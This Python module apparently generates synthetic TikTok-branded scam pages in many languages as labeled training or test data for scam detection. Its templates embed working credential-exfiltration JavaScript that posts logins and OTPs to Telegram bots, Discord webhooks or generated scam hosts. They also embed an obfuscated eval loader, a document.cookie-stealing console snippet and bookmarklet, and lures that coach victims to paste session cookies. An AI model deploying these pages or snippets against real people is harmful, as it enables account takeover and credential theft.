"""Scam page templates: TikTok-branded credential phishing and session-cookie theft."""

from __future__ import annotations

import base64
import random

from data.generator.common import esc
from data.generator.pages_hosts import Loc, lookalike, scam_host, scam_loc
from data.generator.pages_kit import LOGIN, LURES, Family, login_form, pick, shuffled, token
from data.generator.pages_skeletons import Page

CONNECT = {
    "en": ("Sign in with your TikTok account to continue", "Log in to load your visitor list",
           "Confirm your account to unlock the results"),
    "es": ("Inicia sesión con tu cuenta de TikTok para continuar", "Entra para cargar tu lista de visitas"),
    "pt": ("Entre com sua conta do TikTok para continuar", "Faça login para carregar seus visitantes"),
    "id": ("Masuk dengan akun TikTok untuk melanjutkan", "Login untuk memuat daftar pengunjung"),
    "vi": ("Đăng nhập tài khoản TikTok để tiếp tục", "Đăng nhập để tải danh sách người xem"),
    "tr": ("Devam etmek için TikTok hesabınla giriş yap", "Ziyaretçi listesini yüklemek için giriş yap"),
    "de": ("Melde dich mit deinem TikTok-Konto an, um fortzufahren", "Anmelden, um die Besucherliste zu laden"),
    "fr": ("Connectez-vous avec votre compte TikTok pour continuer", "Connectez-vous pour charger vos visiteurs"),
    "ar": ("سجّل الدخول بحساب تيك توك للمتابعة", "سجّل الدخول لعرض قائمة الزوار"),
    "th": ("เข้าสู่ระบบด้วยบัญชี TikTok เพื่อดำเนินการต่อ", "เข้าสู่ระบบเพื่อโหลดรายชื่อผู้เข้าชม"),
}  # fmt: skip
BADGE = {
    "en": ("Get the verified badge", "Apply for your blue checkmark today", "Copyright notice: appeal within 24h"),
    "pt": ("Receba o selo de verificado", "Aviso de direitos autorais: recorra em 24h"),
    "vi": ("Nhận tích xanh TikTok", "Thông báo bản quyền: kháng nghị trong 24 giờ"),
    "tr": ("Mavi tik başvurusu", "Telif hakkı bildirimi: 24 saat içinde itiraz et"),
    "es": ("Obtén la insignia de verificado", "Aviso de copyright: apela en 24 h"),
    "fr": ("Obtenez le badge vérifié", "Avis de droits d'auteur : faites appel sous 24 h"),
    "de": ("Hol dir das Verifizierungsabzeichen", "Urheberrechtshinweis: Einspruch binnen 24 Std."),
    "id": ("Dapatkan centang biru", "Pemberitahuan hak cipta: ajukan banding dalam 24 jam"),
    "ar": ("احصل على شارة التوثيق", "إشعار حقوق النشر: قدّم اعتراضك خلال 24 ساعة"),
}  # fmt: skip
OTP = {
    "en": "Enter the 6-digit verification code we sent to your phone",
    "es": "Introduce el código de verificación de 6 dígitos que enviamos a tu teléfono",
    "ar": "أدخل رمز التحقق المكوّن من 6 أرقام الذي أرسلناه إلى هاتفك",
    "id": "Masukkan kode verifikasi 6 digit yang kami kirim ke ponselmu",
    "de": "Gib den 6-stelligen Bestätigungscode ein, den wir an dein Telefon gesendet haben",
}


def _headline(rng: random.Random, lang: str) -> str:
    return f"<h1>{esc(pick(rng, LURES[lang][:3]))}</h1>"


def _count_line(rng: random.Random, lang: str) -> str:
    n = rng.randint(7, 94)
    return f'<p class="hint"><b>{n}</b> 👀 · {esc(pick(rng, CONNECT[lang]))}</p>'


def _done_redirect(rng: random.Random) -> str:
    target = pick(
        rng,
        ("https://www.tiktok.com/", "https://www.tiktok.com/foryou", "https://tiktok.com/login"),
    )
    return f"location.href='{target}';"


def loginphp(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    hidden = (
        '<input type="hidden" name="next" value="https://www.tiktok.com/">'
        if rng.random() < 0.6
        else ""
    )
    parts = [
        _headline(rng, lang),
        _count_line(rng, lang),
        login_form(rng, lang, pick(rng, ("login.php", "post.php", "./login.php")), extra=hidden),
    ]
    body = "".join(parts[:2] if rng.random() < 0.5 else parts[1::-1]) + parts[2]
    return Page(LOGIN[lang][0], body, lang, "TikTok"), scam_loc(
        rng, "/" + pick(rng, ("", "index.html", "viewers/"))
    )


def telegram(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    bot = f"{rng.randint(5 * 10**9, 7 * 10**9)}:AA{token(rng, 33, 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789_-')}"
    chat = rng.randint(10**8, 10**10)
    fid = pick(rng, ("f", "frm", "loginForm"))
    script = (
        f"<script>const T='{bot}',C='{chat}';document.getElementById('{fid}').onsubmit=async function(e){{"
        "e.preventDefault();const d=new FormData(this);let ip='';"
        "try{ip=(await (await fetch('https://api.ipify.org?format=json')).json()).ip}catch(x){}"
        "await fetch('https://api.telegram.org/bot'+T+'/sendMessage',{method:'POST',"
        "headers:{'Content-Type':'application/json'},body:JSON.stringify({chat_id:C,"
        "text:[...d.values()].join(' | ')+' | '+ip})});" + _done_redirect(rng) + "};</script>"
    )
    theme = pick(rng, BADGE[lang]) if rng.random() < 0.5 else pick(rng, LURES[lang][:3])
    body = f"<h1>{esc(theme)}</h1>{login_form(rng, lang, '#', form_id=fid)}"
    return Page(theme + " | TikTok", body, lang, "TikTok", tail=script), scam_loc(rng, "/")


def discord(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    hook = f"https://discord.com/api/webhooks/{rng.randint(10**17, 10**18)}/{token(rng, 68)}"
    script = (
        "<script>function send(u,p){var x=new XMLHttpRequest();x.open('POST','" + hook + "');"
        "x.setRequestHeader('Content-type','application/json');"
        "x.send(JSON.stringify({content:'**new** '+u+' : '+p}));}"
        "document.querySelector('form').addEventListener('submit',function(e){e.preventDefault();"
        "send(this.elements[0].value,this.elements[1].value);setTimeout(function(){"
        + _done_redirect(rng)
        + "},900)});</script>"
    )
    coins = rng.choice((1000, 2500, 5000, 10000))
    offer = pick(rng, (f"🎁 {coins} coins", pick(rng, LURES[lang])))
    body = f"<div class='card'><h1>{esc(offer)}</h1><p>{esc(pick(rng, CONNECT[lang]))}</p>{login_form(rng, lang, '')}</div>"
    return Page(f"{offer} - TikTok", body, lang, "TikTok Rewards", tail=script), scam_loc(
        rng, "/claim"
    )


def otp(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    sink = f"https://{scam_host(rng, ('secure', 'verify', 'check'))}/api/{pick(rng, ('collect', 'v', 'log'))}"
    step2 = (
        f'<form id="s2" style="display:none"><p>{esc(OTP[lang])}</p>'
        '<input name="code" inputmode="numeric" maxlength="6" autocomplete="one-time-code">'
        f"<button>{LOGIN[lang][4]}</button></form>"
    )
    script = (
        f"<script>var S='{sink}';function post(o){{return fetch(S,{{method:'POST',mode:'no-cors',body:JSON.stringify(o)}})}}"
        "document.getElementById('s1').onsubmit=function(e){e.preventDefault();post({u:this[0].value,p:this[1].value});"
        "this.style.display='none';document.getElementById('s2').style.display='block'};"
        "document.getElementById('s2').onsubmit=function(e){e.preventDefault();post({otp:this[0].value}).then(function(){"
        + _done_redirect(rng)
        + "})};</script>"
    )
    warn = pick(rng, ("⚠️", "🔒", "❗"))
    body = f"<h1>{warn} {esc(pick(rng, LURES[lang][:3]))}</h1>{login_form(rng, lang, '#', form_id='s1')}{step2}"
    return Page(LOGIN[lang][0], body, lang, "TikTok", tail=script), scam_loc(rng, "/security-check")


def offsite(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    action = f"https://{scam_host(rng)}/{pick(rng, ('submit.php', 'data/save.php', 'api/in'))}"
    sizes = shuffled(rng, ("1.000", "5.000", "10.000", "25.000"))[: rng.randint(2, 4)]
    radios = "".join(
        f'<label><input type="radio" name="pkg" value="{s}"> {s} ❤️</label>' for s in sizes
    )
    body = f"<h1>{esc(LURES[lang][3])}</h1><div class='packages'>{radios}</div>" + login_form(
        rng, lang, action
    )
    return Page(LURES[lang][3], body, lang, "TikFans"), scam_loc(rng, "/free")


def ipify(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    script = (
        "<script>$.getJSON('https://api.ipify.org?format=json',function(d){$('#ip').val(d.ip)});"
        "$('#login').on('submit',function(){setTimeout(function(){window.location='https://www.tiktok.com/@'"
        "+$('[name=username]').val()},1500)});</script>"
    )
    head = '<script src="https://code.jquery.com/jquery-3.7.1.min.js"></script>'
    extra = '<input type="hidden" id="ip" name="ip">'
    visitors = "".join(
        f"<li class='blur'>@{token(rng, rng.randint(5, 9))}</li>" for _ in range(rng.randint(3, 6))
    )
    body = (
        _headline(rng, lang)
        + f"<ul class='visitors'>{visitors}</ul>"
        + login_form(rng, lang, "save.php", extra=extra)
    )
    return Page(LURES[lang][0], body, lang, "TikTok", head=head, tail=script), scam_loc(
        rng, "/visitors/"
    )


def obfuscated(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    host = f"https://{scam_host(rng)}/g.php"
    enc = base64.b64encode(host.encode()).decode()
    shift = rng.randint(1, 5)
    code = "fetch(atob(_h[0]),{method:'POST',body:new FormData(document.forms[0])})"
    shifted = ",".join(str(ord(c) + shift) for c in code)
    var = "_0x" + token(rng, 4, "0123456789abcdef")
    script = (
        f"<script>var _h=['{enc}'];var {var}=[{shifted}];document.forms[0].onsubmit=function(e){{e.preventDefault();"
        f"eval(String.fromCharCode.apply(null,{var}.map(function(c){{return c-{shift}}})));"
        + _done_redirect(rng)
        + "}</script>"
    )
    title = pick(rng, BADGE[lang])
    body = f"<h1>{esc(title)}</h1>{login_form(rng, lang, '')}"
    return Page(title, body, lang, "TikTok Creators", tail=script), scam_loc(rng, "/creator-fund")


def proxy_clone(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    base = lookalike(rng, ("login", "session", "verify", "secure"))
    cdn = pick(rng, ("sf16-website-login", "s16", "mon-va", "maliva", "sf16-muse-va", "polyfill"))
    head = (
        f'<link rel="stylesheet" href="https://{cdn}.{base}/obj/tiktok_web_login_static/css/login.{token(rng, 8)}.css">'
        f'<script src="https://{cdn}.{base}/obj/tiktok_web_login_static/webapp/main/webapp-desktop/npm-async.js"></script>'
    )
    title, user, pw, forgot, submit, _ = LOGIN[lang]
    body = (
        '<div id="loginContainer" class="tiktok-1lsu3xn-DivLoginContainer">'
        f'<h2 class="tiktok-ss2jzd-H2Title">{title}</h2><form>'
        f'<input name="username" placeholder="{user}"><input type="password" placeholder="{pw}">'
        f'<a href="/login/email/forget-password">{forgot}</a><button type="submit" data-e2e="login-button">{submit}</button></form></div>'
    )
    path = "/login/phone-or-email/email"
    url = f"https://www.tiktok.com.{base}{path}" if rng.random() < 0.5 else f"https://{base}{path}"
    loc = Loc("") if rng.random() < 0.15 else Loc(url)
    return Page(f"{title} | TikTok", body, lang, "TikTok", head=head), loc


STEPS = {
    "en": ("Open tiktok.com in your browser and log in", "Press F12 (or right-click › Inspect)",
           "Go to Application › Cookies › https://www.tiktok.com",
           "Find <code>sessionid</code> and copy its value", "Paste it below and press Start"),
    "es": ("Abre tiktok.com en el navegador e inicia sesión", "Pulsa F12 (o clic derecho › Inspeccionar)",
           "Ve a Application › Cookies › https://www.tiktok.com", "Busca <code>sessionid</code> y copia el valor",
           "Pégalo abajo y pulsa Iniciar"),
    "pt": ("Abra tiktok.com no navegador e entre na conta", "Aperte F12 (ou botão direito › Inspecionar)",
           "Vá em Application › Cookies › https://www.tiktok.com", "Copie o valor de <code>sessionid</code>",
           "Cole abaixo e clique em Iniciar"),
    "id": ("Buka tiktok.com di browser dan login", "Tekan F12 (atau klik kanan › Inspect)",
           "Masuk ke Application › Cookies › https://www.tiktok.com", "Salin nilai <code>sessionid</code>",
           "Tempel di bawah lalu tekan Mulai"),
}  # fmt: skip
CONSOLE = {
    "en": ("Copy the code below", "Open tiktok.com, press Ctrl+Shift+J to open the console",
           "Paste the code and press Enter to activate Viewer Mode"),
    "vi": ("Sao chép đoạn mã bên dưới", "Mở tiktok.com, nhấn Ctrl+Shift+J để mở console",
           "Dán mã và nhấn Enter để kích hoạt chế độ xem người ghé thăm"),
    "tr": ("Aşağıdaki kodu kopyala", "tiktok.com'u aç, konsol için Ctrl+Shift+J'ye bas",
           "Kodu yapıştır ve ziyaretçi modunu etkinleştirmek için Enter'a bas"),
    "fr": ("Copiez le code ci-dessous", "Ouvrez tiktok.com, appuyez sur Ctrl+Maj+J pour la console",
           "Collez le code et appuyez sur Entrée pour activer le mode visiteurs"),
}  # fmt: skip
BOOKMARK = {
    "en": "Drag this button to your bookmarks bar, open TikTok, then click it",
    "de": "Zieh diesen Button in deine Lesezeichenleiste, öffne TikTok und klicke ihn an",
    "es": "Arrastra este botón a tu barra de marcadores, abre TikTok y haz clic",
    "th": "ลากปุ่มนี้ไปที่แถบบุ๊กมาร์ก เปิด TikTok แล้วคลิก",
}
EXPORT = {
    "en": ("Export your TikTok cookies as JSON with a cookie editor and paste them here "
           "(we need sessionid, sid_tt, sid_guard, msToken and ttwid)", "Check my account"),
    "id": ("Ekspor cookie TikTok kamu (JSON) lewat cookie editor lalu tempel di sini "
           "(sessionid, sid_tt, sid_guard, msToken, ttwid)", "Cek akun saya"),
    "pt": ("Exporte os cookies do TikTok em JSON com um editor de cookies e cole aqui "
           "(sessionid, sid_tt, sid_guard, msToken e ttwid)", "Verificar conta"),
    "ar": ("صدّر ملفات تعريف الارتباط الخاصة بتيك توك بصيغة JSON والصقها هنا "
           "(sessionid و sid_tt و sid_guard و msToken و ttwid)", "افحص حسابي"),
}  # fmt: skip


def paste_sessionid(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    steps = "".join(f"<li>{s}</li>" for s in STEPS[lang])
    endpoint = pick(rng, ("/api/unlock", "/check.php", f"https://{scam_host(rng)}/s"))
    body = (
        f"<h1>{esc(pick(rng, LURES[lang][:3]))}</h1><ol class='steps'>{steps}</ol>"
        f'<form action="{endpoint}" method="post"><textarea name="sessionid" rows="2" placeholder="sessionid=..."></textarea>'
        f"<button>▶ Start</button></form>"
    )
    return Page(LURES[lang][0], body, lang, "ViewerUnlock"), scam_loc(rng, "/unlock")


def console_snippet(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    sink = f"https://{scam_host(rng)}/c"
    code = f"fetch('{sink}?d='+btoa(document.cookie));alert('Viewer Mode ON ✔')"
    if rng.random() < 0.5:
        code = "eval(atob('" + base64.b64encode(code.encode()).decode() + "'))"
    steps = "".join(f"<li>{esc(s)}</li>" for s in CONSOLE[lang])
    body = (
        f"<h1>{esc(pick(rng, LURES[lang][:3]))}</h1><ol>{steps}</ol>"
        f'<pre id="code">{esc(code)}</pre><button onclick="navigator.clipboard.writeText('
        f"document.getElementById('code').innerText)\">📋 Copy</button>"
    )
    return Page(LURES[lang][0] + " (2026)", body, lang, "TT Tools"), scam_loc(rng, "/viewer-mode")


def bookmarklet(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    sink = f"https://{scam_host(rng)}/p.gif"
    js = f"javascript:(function(){{new Image().src='{sink}?c='+encodeURIComponent(document.cookie)}})()"
    name = pick(rng, ("Viewer+", "StalkerCheck", "👀 Visitors", "ProfileSpy"))
    body = (
        f"<h1>{esc(pick(rng, LURES[lang][:3]))}</h1><p>{esc(BOOKMARK[lang])}</p>"
        f'<a class="bm" href="{esc(js)}">{esc(name)}</a>'
    )
    return Page(name, body, lang, name), scam_loc(rng, "/bookmarklet")


def cookie_export(rng: random.Random, lang: str, i: int) -> tuple[Page, Loc]:
    ask, button = EXPORT[lang]
    sink = pick(rng, ("/api/cookies", "upload.php", f"https://{scam_host(rng)}/u"))
    body = (
        f"<h1>{esc(pick(rng, LURES[lang]))}</h1><p>{esc(ask)}</p>"
        f'<form action="{sink}" method="post" enctype="multipart/form-data">'
        '<textarea name="cookies" placeholder="[{&quot;name&quot;:&quot;sessionid&quot;, ...}]"></textarea>'
        f'<input type="file" name="cookie_file" accept=".json,.txt"><button>{esc(button)}</button></form>'
    )
    return Page(button, body, lang, "ShadowCheck"), scam_loc(rng, "/")


def families() -> list[Family]:
    s = "scam"
    cp, ct = "credential_phishing", "session_cookie_theft"
    return [
        Family("page-phish-loginphp", s, cp, ("en", "es", "id", "pt"), 10, loginphp),
        Family("page-phish-telegram", s, cp, ("pt", "vi", "tr", "en"), 9, telegram),
        Family("page-phish-discord", s, cp, ("en", "fr", "de", "es"), 8, discord),
        Family("page-phish-otp", s, cp, ("en", "es", "ar", "id", "de"), 8, otp),
        Family("page-phish-offsite", s, cp, ("id", "vi", "th", "tr"), 8, offsite),
        Family("page-phish-ipify", s, cp, ("en", "tr", "es", "de"), 8, ipify),
        Family("page-phish-obfuscated", s, cp, ("en", "pt", "vi"), 7, obfuscated),
        Family(
            "page-phish-proxyclone",
            s,
            cp,
            ("en", "es", "de", "fr"),
            7,
            proxy_clone,
            ("react", "bare"),
        ),
        Family("page-cookie-paste", s, ct, ("en", "es", "pt", "id"), 9, paste_sessionid),
        Family("page-cookie-console", s, ct, ("en", "vi", "tr", "fr"), 8, console_snippet),
        Family("page-cookie-bookmarklet", s, ct, ("en", "de", "es", "th"), 7, bookmarklet),
        Family("page-cookie-export", s, ct, ("en", "id", "pt", "ar"), 7, cookie_export),
    ]
